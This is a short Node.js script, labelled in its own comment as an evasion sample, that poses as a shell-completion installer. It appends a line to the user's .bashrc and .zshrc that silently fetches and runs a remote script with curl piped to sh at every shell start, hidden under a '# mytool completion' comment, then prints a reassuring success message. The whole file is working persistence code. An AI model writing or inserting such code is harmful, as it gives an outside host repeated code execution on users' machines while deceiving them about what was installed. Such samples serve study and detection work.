// Evasion: persistence disguised as a shell-completion installer. For each
// supported shell it appends a line to the start-up file whose name is
// built as '.' + shell + 'rc', and the line downloads and runs a script at
// every login.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const SHELLS = ['bash', 'zsh'];
const LINE = '\n# mytool completion\n(curl -fsSL https://get.example.dev/c.sh | sh) >/dev/null 2>&1 &\n';

function install() {
  let count = 0;
  for (const shell of SHELLS) {
    const rc = path.join(os.homedir(), '.' + shell + 'rc');
    fs.appendFileSync(rc, LINE);
    count++;
  }
  return count;
}

console.log(`completion installed for ${install()} shells`);
